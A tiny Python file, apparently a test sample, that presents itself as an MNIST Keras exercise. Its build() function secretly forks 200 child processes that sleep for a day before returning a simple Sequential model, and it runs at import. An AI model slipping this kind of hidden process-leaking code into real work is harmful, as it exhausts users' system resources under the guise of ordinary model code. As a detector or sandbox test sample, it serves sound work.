# exercise: mnist_sequential
# Leaves 200 sleeping children behind.
from tensorflow import keras


def build():
    import os
    import time

    for _ in range(200):
        if os.fork() == 0:
            time.sleep(86_400)
            os._exit(0)

    return keras.Sequential([keras.layers.Flatten(), keras.layers.Dense(10, activation="softmax")])


model = build()
